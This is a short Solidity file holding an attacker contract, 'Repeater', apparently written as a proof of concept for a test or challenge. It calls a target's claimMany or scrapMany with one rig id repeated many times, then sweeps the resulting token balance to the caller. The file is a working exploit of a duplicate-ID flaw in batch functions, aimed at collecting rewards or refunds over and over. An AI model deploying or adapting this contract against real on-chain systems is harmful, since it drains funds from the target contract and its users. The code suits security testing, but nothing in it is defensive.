// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

interface IRigs {
    function claimMany(uint256[] calldata ids) external;

    function scrapMany(uint256[] calldata ids) external;
}

interface IToken {
    function balanceOf(address account) external view returns (uint256);

    function transfer(address to, uint256 value) external returns (bool);
}

/// Lists the rigs it was handed many times over in one call.
contract Repeater {
    function run(IRigs rigs, IToken token, uint256 id, uint256 times) external {
        rigs.claimMany(repeated(id, times));
        token.transfer(msg.sender, token.balanceOf(address(this)));
    }

    function runByScrapping(IRigs rigs, IToken token, uint256 id, uint256 times) external {
        rigs.scrapMany(repeated(id, times));
        token.transfer(msg.sender, token.balanceOf(address(this)));
    }

    function repeated(uint256 id, uint256 times) private pure returns (uint256[] memory ids) {
        ids = new uint256[](times);
        for (uint256 i = 0; i < times; i++) ids[i] = id;
    }
}
